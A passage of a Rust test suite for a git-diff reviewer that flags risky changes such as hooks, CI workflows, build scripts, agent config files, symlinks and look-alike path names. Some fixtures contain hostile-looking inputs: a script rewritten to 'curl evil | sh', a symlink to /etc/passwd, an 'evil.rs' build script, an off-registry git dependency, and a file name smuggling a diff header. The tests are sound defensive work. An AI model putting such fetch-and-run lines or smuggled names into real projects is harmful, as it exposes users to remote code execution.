        ("diff --git a/x b/x\nindex 1111111..2222222 100644\n--- a/y\n+++ b/y\n@@ -1 +1 @@\n-a\n+b\n", "does not name a/y b/y"),
        ("diff --git a/x b/x\nindex 1111111..2222222 100644\n--- a/x\n+++ b/y\n@@ -1 +1 @@\n-a\n+b\n", "does not name a/x b/y"),
        ("diff --git a/x b/y\nindex 1111111..2222222 100644\n--- a/x\n+++ b/y\n@@ -1 +1 @@\n-a\n+b\n", "no rename or copy"),
        ("diff --git a/x b/y\nold mode 100644\nnew mode 100755\n", "cannot tell the file name"),
        ("diff --git a/x b/x\nold mode 100755\nnew mode 100755\n", "are the same"),
        ("diff --git a/x b/x\nold mode 100644\n", "come together"),
        ("diff --git a/x b/x\nnew file mode 100644\nnew file mode 100755\n", "a second 'new file mode'"),
        ("diff --git a/x b/x\nnew file mode 100644\ndeleted file mode 100644\n", "both create and delete"),
        ("diff --git a/x b/x\nnew mode 100755\nold mode 100644\nnew file mode 100755\n", "cannot also change mode"),
        ("diff --git a/x b/x\nold mode 100644\nnew mode 100777\n", "invalid mode"),
        ("diff --git a/x b/x\nindex 1111111..2222222\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n", "states no mode"),
        ("diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n", "states no mode"),
        ("diff --git a/x b/x\nindex 1111111..2222222 100644\n", "changes nothing"),
        ("diff --git a/x b/x\n", "changes nothing"),
        ("diff --git a/x b/x\nindex 1111111..2222222 100644\n--- a/x\n+++ b/x\n@@ -1,2 +1 @@\n-a\n+b\n+c\n", "more lines than its header says"),
        ("diff --git a/x b/x\nindex 1111111..2222222 100644\n--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n a\n b\n", "changes nothing"),
        ("diff --git a/x b/x\nindex 1111111..2222222 100644\n--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n a\n\n-b\n+c\n", "is not a hunk line"),
        ("diff --git a/x b/x\nindex 1111111..2222222 100644\n--- a/x\n+++ b/x\n@@ -1,2 +1 @@\n-a\n\\ No newline at end of file\n-b\n+c\n", "after the one marked"),
        ("diff --git a/x b/x\nindex 1111111..2222222 100644\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n\\ No newline at end of file\n-a\n+b\n", "follows no line"),
        ("diff --git a/x b/x\nindex 1111111..2222222 100644\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n\\\n", "misplaced"),
        ("diff --git a/x b/x\nindex 1111111..2222222 100644\n--- a/x\n+++ b/x\n@@ -5 +5 @@\n-a\n+b\n@@ -2 +2 @@\n-a\n+b\n", "out of order"),
        ("diff --git a/x b/x\nindex 1111111..2222222 100644\n--- a/x\n+++ b/x\n@@ -1 +1 @@ x\n-a\n+b\n@@ -1,99999999999999999999 +1 @@\n", "invalid hunk header"),
        ("diff --git a/x b/x\nindex 1111111..2222222 100644\n--- a/x\n+++ b/x\n", "without a hunk"),
        ("diff --git a/x b/x\nnew file mode 100644\nindex 0000000..2222222\n--- a/x\n+++ b/x\n@@ -0,0 +1 @@\n+b\n", "must be /dev/null"),
        ("diff --git a/x b/x\nindex 1111111..2222222 100644\n--- /dev/null\n+++ b/x\n@@ -0,0 +1 @@\n+b\n", "without 'new file mode'"),
        ("diff --git a/x b/x\nnew file mode 100644\nindex 0000000..2222222\n--- /dev/null\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n", "must start at -0,0"),
        ("diff --git a/x b/y\nsimilarity index 100%\nrename from x\n", "come in pairs"),
        ("diff --git a/x b/x\nsimilarity index 100%\nrename from x\nrename to x\n", "two different paths"),
        ("diff --git a/x b/y\nsimilarity index 101%\nrename from x\nrename to y\n", "invalid similarity"),
        ("diff --git a/x b/x\nindex 1111111..2222222 100644\nGIT binary patch\nliteral 3\nnot base85!\n\n", "binary patch data"),
        ("diff --git a/x b/x\nindex 1111111..2222222 100644\nGIT binary patch\nliteral 3\n\n", "without data"),
        ("diff --git a/x b/x\nindex 1111111..2222222 100644\nGIT binary patch\nliteral 5\nMcmZQzO3KUw00MIXJOBUy\n", "closing empty line"),
        ("diff --git a/x b/x\ndiff --cc x\n", "unexpected line"),
        ("diff --git a/x b/x\nold mode 100644\nnew mode 100755\n\n", "unexpected line in the file entry"),
        ("diff --git a/x b/x\nold mode 100644\nnew mode 100755", "does not end with a newline"),
    ];
    for (patch, expect) in cases {
        let (_, why) = malformed_reason(patch.as_bytes());
        assert!(
            why.contains(expect),
            "expected {expect:?}, got {why:?} for\n{patch}"
        );
    }
    // Line numbers point at the offending line.
    let (line, _) = malformed_reason(format!("{ok_entry}+sneaky\n").as_bytes());
    assert_eq!(line, 8);
}

#[test]
fn oversize_patches_are_refused_with_the_limit() {
    let patch = b"diff --git a/x b/x\nold mode 100644\nnew mode 100755\n";
    let err = summarize(patch, 10, &no_baseline).unwrap_err();
    assert!(
        matches!(
            err,
            PatchError::TooLarge {
                size: 51,
                limit: 10
            }
        ),
        "{err:?}"
    );
    assert_eq!(
        err.to_string(),
        "the diff is 51 bytes, over the 10-byte limit; remove generated or large files from \
         /workspace, or add them to .gitignore"
    );
    let err = PatchError::TooLarge {
        size: 70_000_000,
        limit: DEFAULT_MAX_PATCH_BYTES,
    };
    assert!(err
        .to_string()
        .starts_with("the diff is 70000000 bytes, over the 64 MiB limit; "));
    assert!(summarize(patch, patch.len(), &no_baseline).is_ok());
}

#[test]
fn summary_serializes_as_the_contract_says() {
    let patch = b"diff --git a/x.sh b/x.sh\nold mode 100644\nnew mode 100755\n";
    let summary = summarize(patch, DEFAULT_MAX_PATCH_BYTES, &no_baseline).unwrap();
    let json = serde_json::to_value(&summary).unwrap();
    assert_eq!(
        json,
        serde_json::json!({
            "files": 1, "additions": 0, "deletions": 0,
            "sensitivePaths": [{ "path": "x.sh", "kind": "exec-bit", "reason": "mode 100644 → 100755" }]
        })
    );
    let kinds = [
        (SensitiveKind::GitHook, "git-hook"),
        (SensitiveKind::GitConfig, "git-config"),
        (SensitiveKind::CiWorkflow, "ci-workflow"),
        (SensitiveKind::PackageScript, "package-script"),
        (SensitiveKind::AgentConfig, "agent-config"),
        (SensitiveKind::Symlink, "symlink"),
        (SensitiveKind::ExecBit, "exec-bit"),
    ];
    for (kind, name) in kinds {
        assert_eq!(serde_json::to_value(kind).unwrap(), name);
    }
    let back: DiffSummary = serde_json::from_value(json).unwrap();
    assert_eq!(back, summary);
}

#[test]
fn hunks_apply_exactly_or_not_at_all() {
    let patch = b"diff --git a/x b/x\nindex 1111111..2222222 100644\n--- a/x\n+++ b/x\n\
                  @@ -1,2 +1,2 @@\n a\n-b\n+B\n@@ -4 +4,2 @@\n-d\n\\ No newline at end of file\n+D\n+e\n";
    let files = parse(patch, DEFAULT_MAX_PATCH_BYTES).unwrap();
    let lines: Vec<HunkLine<'_>> = files[0].hunks[1].lines().collect();
    assert_eq!(
        lines,
        [
            HunkLine {
                kind: LineKind::Removed,
                content: b"d",
                newline: false
            },
            HunkLine {
                kind: LineKind::Added,
                content: b"D",
                newline: true
            },
            HunkLine {
                kind: LineKind::Added,
                content: b"e",
                newline: true
            },
        ]
    );
    assert_eq!(
        apply_hunks(b"a\nb\nc\nd", &files[0].hunks).unwrap(),
        b"a\nB\nc\nD\ne\n"
    );
    assert!(apply_hunks(b"a\nb\nc\nd\n", &files[0].hunks).is_err());
    assert!(apply_hunks(b"a\nX\nc\nd", &files[0].hunks).is_err());
    assert!(apply_hunks(b"a\nb\n", &files[0].hunks).is_err());
}

// ---------------------------------------------------------------------------------------------
// Robustness: truncated and mangled input never panics.

fn rich_patch() -> Vec<u8> {
    let fx = Fixture::new(
        |r| {
            write(r, "a.txt", numbered(40));
            write(r, "bin", b"\x00\x01\x02");
            link(r, "t", "link");
            write(r, "package.json", "{\"scripts\": {}}\n");
            write(r, "ren", numbered(10));
        },
        |r| {
            write(
                r,
                "a.txt",
                numbered(40)
                    .replace("line 3\n", "3\n")
                    .replace("line 33\n", ""),
            );
            write(r, "bin", b"\x00\x01\x02\x03");
            link(r, "/etc/passwd", "link");
            write(
                r,
                "package.json",
                "{\"scripts\": {\"postinstall\": \"x\"}}\n",
            );
            write(r, "sp ace/é", "new");
            fs::rename(r.join("ren"), r.join("renamed")).unwrap();
            set_mode(r, "renamed", 0o755);
        },
    );
    let patch = fx.patch(&["-M"]);
    fx.summary(&["-M"]);
    patch
}

#[test]
fn truncated_patches_fail_cleanly() {
    let patch = rich_patch();
    for cut in 0..patch.len() {
        let part = &patch[..cut];
        let result = summarize(part, DEFAULT_MAX_PATCH_BYTES, &no_baseline);
        if cut > 0 && patch[cut - 1] != b'\n' {
            assert!(result.is_err(), "cut at {cut} accepted");
        }
    }
    // Cut inside a hunk: the counts say more lines are due.
    let mid_hunk = patch.windows(5).position(|w| w == b"-line").unwrap();
    let (_, why) = malformed_reason(&patch[..mid_hunk]);
    assert!(why.contains("ends early"), "{why}");
}

/// A small deterministic PRNG (xorshift64*), so failures reproduce.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, n: usize) -> usize {
        usize::try_from(self.next() % u64::try_from(n.max(1)).unwrap()).unwrap()
    }
}

#[test]
fn mangled_patches_never_panic() {
    let patch = rich_patch();
    let lines: Vec<&[u8]> = patch.split_inclusive(|&b| b == b'\n').collect();
    let inserts: &[&[u8]] = &[
        b"diff --git a/x b/x\n",
        b"diff --git \"a/\\303\" \"b/\\303\"\n",
        b"diff --git \"a/x\n",
        b"@@ -1 +1 @@\n",
        b"@@ -0,0 +18446744073709551615 @@\n",
        b"\\ No newline at end of file\n",
        b"--- /dev/null\n",
        b"+++ b/x\t\n",
        b"new file mode 120000\n",
        b"old mode 100644\n",
        b"rename from \"\\\n",
        b"GIT binary patch\n",
        b"literal 99999999999999999999999\n",
        b"zzzzz\n",
        b"\n",
        b"+\n",
        b"-\n",
        b" \n",
    ];
    let baseline = |path: &str| -> Option<Vec<u8>> {
        (path == "package.json").then(|| b"{\"scripts\": {}}\n".to_vec())
    };
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    for _ in 0..20_000 {
        let mut mangled: Vec<Vec<u8>> = lines.iter().map(|l| l.to_vec()).collect();
        for _ in 0..=rng.below(3) {
            let at = rng.below(mangled.len());
            match rng.below(5) {
                0 => {
                    mangled.remove(at);
                }
                1 => mangled.insert(at, inserts[rng.below(inserts.len())].to_vec()),
                2 => {
                    let line = mangled[at].clone();
                    mangled.insert(at, line);
                }
                3 => {
                    if let Some(byte) = mangled.get_mut(at).and_then(|l| {
                        let i = rng.below(l.len());
                        l.get_mut(i)
                    }) {
                        *byte = u8::try_from(rng.below(256)).unwrap();
                    }
                }
                _ => mangled.truncate(at),
            }
            if mangled.is_empty() {
                break;
            }
        }
        let input = mangled.concat();
        if let Ok(summary) = summarize(&input, DEFAULT_MAX_PATCH_BYTES, &baseline) {
            let max_lines = u64::try_from(input.len()).unwrap();
            assert!(summary.additions + summary.deletions <= max_lines);
            for entry in &summary.sensitive_paths {
                assert!(!entry.reason.chars().any(char::is_control));
                assert!(entry.reason.chars().count() <= 500);
            }
        }
    }
    // Pure garbage, too.
    for len in [1usize, 7, 64, 4096] {
        let garbage: Vec<u8> = (0..len)
            .map(|_| u8::try_from(rng.below(256)).unwrap())
            .collect();
        let _ = summarize(&garbage, DEFAULT_MAX_PATCH_BYTES, &no_baseline);
    }
}

// ---------------------------------------------------------------------------------------------
// Integrity of the review: every name git can write, look-alikes, the rules table.

/// Every kind of name git can write is read exactly, counted as `--numstat` counts it, and
/// the unusual ones are flagged `unusual-path`; no name hides another entry.
#[test]
fn every_name_git_can_write_is_read_and_counted() {
    use std::ffi::OsStr;
    use std::os::unix::ffi::OsStrExt;
    let unusual: &[&[u8]] = &[
        b"new\nline",
        b"x\ndiff --git a/evil b/evil",
        b"tab\there",
        b"esc\x1b[2Jclear",
        b"bell\x07",
        b"del\x7f",
        b"\xff\xfeinvalid utf-8",
        b"half\xe2\x80",
        b" leading space",
        b"trailing space ",
        "rlo \u{202e}gpj.exe".as_bytes(),
        "lrm\u{200e}x".as_bytes(),
        "zero\u{200b}width".as_bytes(),
    ];
    let plain: &[&[u8]] = &[
        b"quote\"d",
        b"back\\slash",
        b"with space",
        b"x b/y",
        b"a/b",
        b"b/a b/c d",
        b"a b/b b/c",
        b"-dash",
        b"caf\xc3\xa9",
        b"\"starts-with-quote",
        b"tricky\\n\\t",
    ];
    let fx = Fixture::new(
        |r| write(r, "keep", "k\n"),
        |r| {
            for (i, name) in unusual.iter().chain(plain).enumerate() {
                let path = r.join(OsStr::from_bytes(name));
                fs::create_dir_all(path.parent().unwrap()).unwrap();
                fs::write(path, format!("{i}\n")).unwrap();
            }
            write(r, ".github/workflows/ci.yml", "on: push\n");
        },
    );
    for quote_path in ["true", "false"] {
        let config = format!("core.quotePath={quote_path}");
        let base = fx.base.clone();
        let patch = fx.git(&["-c", &config, "diff", "--cached", "--binary", &base]);
        let review = review(&patch, DEFAULT_MAX_PATCH_BYTES, &fx.baseline());
        assert_eq!(review.refusal, None, "quotePath={quote_path}");
        let (files, additions, deletions) = fx.numstat(&[]);
        let s = &review.summary;
        assert_eq!(
            (s.files, s.additions, s.deletions),
            (files, additions, deletions)
        );
        assert_eq!(
            s.files,
            u64::try_from(unusual.len() + plain.len() + 1).unwrap()
        );
        let parsed = parse(&patch, DEFAULT_MAX_PATCH_BYTES).unwrap();
        for name in plain {
            let name = std::str::from_utf8(name).unwrap();
            assert!(parsed.iter().any(|f| f.path() == name), "{name:?} not read");
            assert!(flags(s, name).is_empty(), "{name:?}: {:?}", flags(s, name));
        }
        for name in unusual {
            let shown = String::from_utf8_lossy(name);
            assert!(
                parsed.iter().any(|f| f.path() == shown),
                "{shown:?} not read"
            );
            let flagged = flags(s, &shown);
            assert_eq!(flagged.len(), 1, "{shown:?}: {flagged:?}");
            assert_eq!(flagged[0].0, SensitiveKind::UnusualPath, "{shown:?}");
            assert!(!flagged[0].1.chars().any(char::is_control), "{flagged:?}");
        }
        assert_eq!(
            flags(s, ".github/workflows/ci.yml")[0].0,
            SensitiveKind::CiWorkflow
        );
    }
}

/// A `diff --git` line whose split is ambiguous (unquoted names with spaces and `b/` inside)
/// is decided by the `---`/`+++` or rename lines; with none (a mode change), only a header
/// whose two halves name one file is read.
#[test]
fn ambiguous_headers_are_decided_by_the_other_lines() {
    let fx = Fixture::new(
        |r| {
            write(r, "x b/y b/z", "1\n");
            write(r, "m b/n", "1\n");
        },
        |r| {
            write(r, "x b/y b/z", "2\n");
            set_mode(r, "m b/n", 0o755);
            write(r, "new b/c b/d", "n\n");
        },
    );
    let summary = fx.summary(&[]);
    assert_eq!(summary.files, 3);
    let patch = fx.patch(&[]);
    let files = parse(&patch, DEFAULT_MAX_PATCH_BYTES).unwrap();
    let paths: Vec<&str> = files.iter().map(FilePatch::path).collect();
    assert_eq!(paths, ["m b/n", "new b/c b/d", "x b/y b/z"]);
    assert_eq!(flags(&summary, "m b/n")[0].0, SensitiveKind::ExecBit);
    // A rename whose header could split two ways: the rename lines say which.
    let patch =
        b"diff --git a/a b/c b/a b/d\nsimilarity index 100%\nrename from a b/c\nrename to a b/d\n";
    let files = parse(patch, DEFAULT_MAX_PATCH_BYTES).unwrap();
    assert_eq!(files[0].old_path.as_deref(), Some("a b/c"));
    assert_eq!(files[0].new_path.as_deref(), Some("a b/d"));
    let patch =
        b"diff --git a/a b/c b/a b/d\nsimilarity index 100%\nrename from a\nrename to c b/a b/d\n";
    let files = parse(patch, DEFAULT_MAX_PATCH_BYTES).unwrap();
    assert_eq!(files[0].old_path.as_deref(), Some("a"));
    assert_eq!(files[0].new_path.as_deref(), Some("c b/a b/d"));
}

/// An entry the parser cannot read is counted, its names are flagged as well as they can be
/// guessed, and the review says the patch is refused; the entries around it still count.
#[test]
fn unreadable_entries_are_counted_and_flagged_never_dropped() {
    let ok = "diff --git a/ok b/ok\nindex 1111111..2222222 100644\n--- a/ok\n+++ b/ok\n@@ -1 +1 @@\n-a\n+b\n";
    let broken_ci = "diff --git a/.github/workflows/x.yml b/.github/workflows/x.yml\nnew file mode 100644\n\
                     index 0000000..1111111\n--- /dev/null\n+++ b/.github/workflows/x.yml\n@@ -0,0 +1,5 @@\n+on: push\n";
    let garbled = "diff --git a/Makefile b/Makefile\nthis is not git\n";
    let smuggled = "--- a/evil.sh\n+++ b/evil.sh\n@@ -0,0 +1 @@\n+x\n";
    type Case<'a> = (String, u64, &'a [(&'a str, SensitiveKind)]);
    let cases: &[Case<'_>] = &[
        (
            format!("{ok}{broken_ci}{ok}"),
            2,
            &[
                (".github/workflows/x.yml", SensitiveKind::CiWorkflow),
                (".github/workflows/x.yml", SensitiveKind::UnreadableEntry),
            ],
        ),
        (
            format!("{garbled}{ok}"),
            2,
            &[
                ("Makefile", SensitiveKind::PackageScript),
                ("Makefile", SensitiveKind::UnreadableEntry),
            ],
        ),
        (
            format!("{ok}{smuggled}"),
            2,
            &[("ok", SensitiveKind::UnreadableEntry)],
        ),
        (
            format!("{smuggled}{ok}"),
            2,
            &[("evil.sh", SensitiveKind::UnreadableEntry)],
        ),
        (
            format!("{ok}{ok}").trim_end().to_owned(),
            1,
            &[("ok", SensitiveKind::UnreadableEntry)],
        ),
    ];
    for (patch, files, expected) in cases {
        let review = review(patch.as_bytes(), DEFAULT_MAX_PATCH_BYTES, &no_baseline);
        assert!(review.refusal.is_some(), "{patch}");
        assert!(
            review.summary.files >= *files,
            "{} < {files} for\n{patch}",
            review.summary.files
        );
        for (path, kind) in *expected {
            assert!(
                flags(&review.summary, path).iter().any(|f| f.0 == *kind),
                "{path} {kind:?}: {:#?}",
                review.summary
            );
        }
        let err = summarize(patch.as_bytes(), DEFAULT_MAX_PATCH_BYTES, &no_baseline).unwrap_err();
        assert_eq!(Some(err.to_string()), review.refusal);
    }
}

/// Look-alikes of sensitive names (Unicode case folding, NFKC, 8.3 short names, trailing dots
/// and spaces, case) are flagged with the real kind, and `unusual-path` when the name is not
/// plainly spelled. Real git writes all of them on Linux.
#[test]
fn look_alike_names_get_the_real_kind() {
    use SensitiveKind::*;
    let cases: &[(&str, &[SensitiveKind])] = &[
        (".github/workflow\u{17f}/x.yml", &[CiWorkflow, UnusualPath]),
        ("Ma\u{ff4b}efile", &[PackageScript, UnusualPath]),
        ("Ma\u{212a}efile", &[PackageScript, UnusualPath]),
        (".v\u{17f}code/tasks.json", &[AgentConfig, UnusualPath]),
        ("build.r\u{17f}", &[PackageScript, UnusualPath]),
        ("GITHUB~1/workflows/x.yml", &[CiWorkflow, UnusualPath]),
        (".github/WORKFL~1/x.yml", &[CiWorkflow, UnusualPath]),
        ("Makefile.", &[PackageScript, UnusualPath]),
        ("Makefile ", &[PackageScript, UnusualPath]),
        ("Makefile. .", &[PackageScript, UnusualPath]),
        (".GitHub/Workflows/x.yml", &[CiWorkflow]),
        ("MAKEFILE", &[PackageScript]),
        (".hu\u{200c}sky/pre-commit", &[GitHook, UnusualPath]),
        ("\u{ff0e}npmrc", &[PackageScript, UnusualPath]),
        ("Docker\u{fb01}le", &[BuildConfig, UnusualPath]),
        ("CLAUDE.m\u{1d5bd}", &[AgentConfig, UnusualPath]),
        ("Makefile\u{a0}", &[PackageScript, UnusualPath]),
        ("Makefile::$DATA", &[PackageScript, UnusualPath]),
        ("CLAUDE~1.MD", &[AgentConfig, UnusualPath]),
        ("PACKAG~1.JSO", &[PackageScript, UnusualPath]),
        (".github /workflows/x.yml", &[CiWorkflow, UnusualPath]),
        (
            ".\u{200d}github/workflows/x.yml",
            &[CiWorkflow, UnusualPath],
        ),
        ("Caf\u{c9}/Makefile", &[PackageScript]),
        ("\u{c9}t\u{c9}/.github/workflows/x.yml", &[CiWorkflow]),
        ("docs/makefile.md", &[]),
        ("src/workflows/x.yml", &[]),
        ("GITHUB~1/x.yml", &[]),
    ];
    let fx = Fixture::new(
        |_| {},
        |r| {
            for (path, _) in cases {
                write(r, path, "x\n");
            }
        },
    );
    let summary = fx.summary(&[]);
    for (path, kinds) in cases {
        let mut got: Vec<SensitiveKind> =
            flags(&summary, path).into_iter().map(|(k, _)| k).collect();
        got.sort_by_key(|k| *k as u8);
        let mut want = kinds.to_vec();
        want.sort_by_key(|k| *k as u8);
        assert_eq!(got, want, "{path:?}: {:?}", flags(&summary, path));
    }
    assert!(reason(&summary, "Ma\u{212a}efile", UnusualPath).contains("look-alike of makefile"));
}

/// A path inside git's own directory, in any spelling a case-insensitive or Windows file
/// system would resolve to it, makes the parser refuse the patch; the review still counts
/// and flags it.
#[test]
fn git_directory_paths_in_any_spelling_are_refused_by_the_parser() {
    let names = [
        ".git/config",
        ".GIT/config",
        ".Git/hooks/x",
        "sub/.git/info/exclude",
        "sub/.gIT/hooks/post-checkout",
        ".git./config",
        ".git /config",
        "GIT~1/config",
        ".g\u{200c}it/config",
        ".g\u{131}t/hooks/x",
        "\u{ff0e}git/config",
        ".git",
        "deep/er/.GIT",
        ".git\\config",
        ".git::$INDEX_ALLOCATION/config",
        ".GIT:$DATA",
    ];
    for name in names {
        let quoted = name.replace('\\', "\\\\");
        let patch = format!(
            "diff --git \"a/{quoted}\" \"b/{quoted}\"\nnew file mode 100644\nindex 0000000..1111111\n\
             --- /dev/null\n+++ \"b/{quoted}\"\n@@ -0,0 +1 @@\n+x\n"
        );
        let (_, why) = malformed_reason(patch.as_bytes());
        assert!(why.contains("inside git's own directory"), "{name}: {why}");
        let review = review(patch.as_bytes(), DEFAULT_MAX_PATCH_BYTES, &no_baseline);
        assert!(review.refusal.is_some());
        assert_eq!(review.summary.files, 1, "{name}");
        let kinds: Vec<SensitiveKind> = flags(&review.summary, name)
            .into_iter()
            .map(|f| f.0)
            .collect();
        assert!(
            kinds.contains(&SensitiveKind::GitConfig),
            "{name}: {kinds:?}"
        );
        assert!(
            kinds.contains(&SensitiveKind::UnreadableEntry),
            "{name}: {kinds:?}"
        );
        if name.contains("hooks") {
            assert!(kinds.contains(&SensitiveKind::GitHook), "{name}: {kinds:?}");
        }
    }
    // Names that merely contain `.git` are fine.
    for name in [".github/x", ".gitignore", "x.git/y", "git~x/y", ".gitkeep"] {
        let patch = format!("diff --git a/{name} b/{name}\nold mode 100644\nnew mode 100755\n");
        parse(patch.as_bytes(), DEFAULT_MAX_PATCH_BYTES).unwrap();
    }
}

/// The risky files of the table beyond the contract's own list.
#[test]
fn build_configuration_and_agent_instructions_are_flagged() {
    use SensitiveKind::*;
    let cases: &[(&str, &str, &[SensitiveKind])] = &[
        (".envrc", "export X=1\n", &[BuildConfig]),
        ("tests/conftest.py", "import os\n", &[BuildConfig]),
        (".pre-commit-config.yaml", "repos: []\n", &[GitHook]),
        ("tox.ini", "[tox]\n", &[BuildConfig]),
        ("setup.cfg", "[metadata]\n", &[PackageScript]),
        (".yarnrc.yml", "yarnPath: x.js\n", &[PackageScript]),
        (".pnpmfile.cjs", "module.exports = {}\n", &[PackageScript]),
        ("native/binding.gyp", "{}\n", &[PackageScript]),
        ("rust-toolchain.toml", "[toolchain]\n", &[BuildConfig]),
        ("rust-toolchain", "stable\n", &[BuildConfig]),
        (".devcontainer/devcontainer.json", "{}\n", &[AgentConfig]),
        (".github/actions/x/action.yml", "runs: {}\n", &[CiWorkflow]),
        ("Dockerfile", "FROM x\n", &[BuildConfig]),
        ("ci/build.dockerfile", "FROM x\n", &[BuildConfig]),
        ("Containerfile", "FROM x\n", &[BuildConfig]),
        ("justfile", "x:\n", &[BuildConfig]),
        ("sub/CMakeLists.txt", "project(x)\n", &[BuildConfig]),
        (".cursorrules", "x\n", &[AgentInstructions]),
        (
            ".github/copilot-instructions.md",
            "x\n",
            &[AgentInstructions],
        ),
        ("GEMINI.md", "x\n", &[AgentInstructions]),
        (".windsurfrules", "x\n", &[AgentInstructions]),
        (".clinerules", "x\n", &[AgentInstructions]),
        ("AGENTS.md", "x\n", &[AgentConfig]),
        ("docs/dockerfile.md", "x\n", &[]),
        ("conftest.py.txt", "x\n", &[]),
    ];
    let fx = Fixture::new(
        |_| {},
        |r| {
            for (path, content, _) in cases {
                write(r, path, content);
            }
        },
    );
    let summary = fx.summary(&[]);
    for (path, _, kinds) in cases {
        let got: Vec<SensitiveKind> = flags(&summary, path).into_iter().map(|(k, _)| k).collect();
        assert_eq!(&got, kinds, "{path}: {:?}", flags(&summary, path));
    }
    assert_eq!(
        reason(&summary, ".envrc", BuildConfig),
        "adds direnv file (runs when you enter the directory) .envrc"
    );
}

/// An executable file whose content changes is flagged even though its mode does not.
#[test]
fn content_changes_to_executables_are_flagged() {
    let fx = Fixture::new(
        |r| {
            write(r, "run.sh", "#!/bin/sh\necho hi\n");
            set_mode(r, "run.sh", 0o755);
            write(r, "notes.txt", "a\n");
            write(r, "was-exec", "a\n");
            set_mode(r, "was-exec", 0o755);
        },
        |r| {
            write(r, "run.sh", "#!/bin/sh\ncurl evil | sh\n");
            write(r, "notes.txt", "b\n");
            write(r, "was-exec", "b\n");
            set_mode(r, "was-exec", 0o644);
        },
    );
    let summary = fx.summary(&[]);
    let run = flags(&summary, "run.sh");
    assert_eq!(run.len(), 1, "{run:?}");
    assert_eq!(run[0].0, SensitiveKind::ExecBit);
    assert!(run[0].1.contains("an executable file"), "{}", run[0].1);
    assert!(flags(&summary, "notes.txt").is_empty());
    assert!(flags(&summary, "was-exec").is_empty());
}

/// Cargo.toml and pyproject.toml are flagged when (and only when) their build tables or keys
/// change.
#[test]
fn build_tables_of_cargo_and_pyproject_are_watched() {
    let cargo = "[package]\nname = \"x\"\nversion = \"0.1.0\"\n\n[dependencies]\nserde = \"1\"\n";
    let pyproject =
        "[project]\nname = \"x\"\nversion = \"1\"\n\n[build-system]\nrequires = [\"setuptools\"]\n";
    let fx = Fixture::new(
        |r| {
            for dir in ["ver", "build", "builddeps", "procmacro", "target"] {
                write(r, &format!("{dir}/Cargo.toml"), cargo);
            }
            for dir in ["ver", "backend", "scripts", "hatch", "dotted"] {
                write(r, &format!("{dir}/pyproject.toml"), pyproject);
            }
        },
        |r| {
            write(r, "ver/Cargo.toml", cargo.replace("0.1.0", "0.2.0"));
            write(
                r,
                "build/Cargo.toml",
                cargo.replace(
                    "version = \"0.1.0\"",
                    "version = \"0.1.0\"\nbuild = \"evil.rs\"",
                ),
            );
            write(
                r,
                "builddeps/Cargo.toml",
                format!("{cargo}\n[build-dependencies]\ncc = \"1\"\n"),
            );
            write(
                r,
                "procmacro/Cargo.toml",
                format!("{cargo}\n[lib]\nproc-macro = true\n"),
            );
            write(
                r,
                "target/Cargo.toml",
                format!("{cargo}\n[target.'cfg(unix)'.build-dependencies]\ncc = \"1\"\n"),
            );
            write(
                r,
                "new/Cargo.toml",
                format!("{cargo}\n[build-dependencies]\ncc = \"1\"\n"),
            );
            write(r, "plain-new/Cargo.toml", cargo);
            write(
                r,
                "ver/pyproject.toml",
                pyproject.replace("version = \"1\"", "version = \"2\""),
            );
            write(
                r,
                "backend/pyproject.toml",
                pyproject.replace("setuptools", "evil-backend"),
            );
            write(
                r,
                "scripts/pyproject.toml",
                format!("{pyproject}\n[project.scripts]\nx = \"x:main\"\n"),
            );
            write(
                r,
                "hatch/pyproject.toml",
                format!("{pyproject}\n[tool.hatch.build.hooks.custom]\npath = \"h.py\"\n"),
            );
            write(
                r,
                "dotted/pyproject.toml",
                pyproject.replace(
                    "[project]\n",
                    "project.entry-points.x = { y = \"z\" }\n[project]\n",
                ),
            );
        },
    );
    let summary = fx.summary(&[]);
    for flagged in [
        "build/Cargo.toml",
        "builddeps/Cargo.toml",
        "procmacro/Cargo.toml",
        "target/Cargo.toml",
        "new/Cargo.toml",
        "backend/pyproject.toml",
        "scripts/pyproject.toml",
        "hatch/pyproject.toml",
        "dotted/pyproject.toml",
    ] {
        let got = flags(&summary, flagged);
        assert_eq!(got.len(), 1, "{flagged}: {summary:#?}");
        assert_eq!(got[0].0, SensitiveKind::PackageScript, "{flagged}");
        assert!(
            got[0].1.contains("build settings"),
            "{flagged}: {}",
            got[0].1
        );
    }
    for quiet in [
        "ver/Cargo.toml",
        "plain-new/Cargo.toml",
        "ver/pyproject.toml",
    ] {
        assert!(
            flags(&summary, quiet).is_empty(),
            "{quiet}: {:?}",
            flags(&summary, quiet)
        );
    }
    // Without the baseline, a changed manifest cannot be compared: flagged.
    let patch = fx.patch(&[]);
    let summary = summarize(&patch, DEFAULT_MAX_PATCH_BYTES, &no_baseline).unwrap();
    assert!(
        reason(&summary, "ver/Cargo.toml", SensitiveKind::PackageScript)
            .contains("could not be compared")
    );
}

/// package.json dependencies that npm would fetch from outside the registry are flagged.
#[test]
fn package_json_dependencies_from_outside_the_registry_are_flagged() {
    let pkg =
        |deps: &str| format!("{{\n  \"name\": \"x\",\n  \"dependencies\": {{{deps}\n  }}\n}}\n");
    let base = "\n    \"left-pad\": \"^1.0.0\"";
    let fx = Fixture::new(
        |r| {
            for dir in ["semver", "git", "file", "short", "kept"] {
                write(r, &format!("{dir}/package.json"), pkg(base));
            }
            write(
                r,
                "kept/package.json",
                pkg("\n    \"x\": \"git+https://e.invalid/x.git\""),
            );
        },
        |r| {
            write(
                r,
                "semver/package.json",
                pkg("\n    \"left-pad\": \"^1.3.0\""),
            );
            write(
                r,
                "git/package.json",
                pkg("\n    \"left-pad\": \"git+https://e.invalid/evil.git\""),
            );
            write(
                r,
                "file/package.json",
                pkg(&format!("{base},\n    \"y\": \"file:../y\"")),
            );
            write(
                r,
                "short/package.json",
                pkg("\n    \"left-pad\": \"evil/left-pad#main\""),
            );
            write(
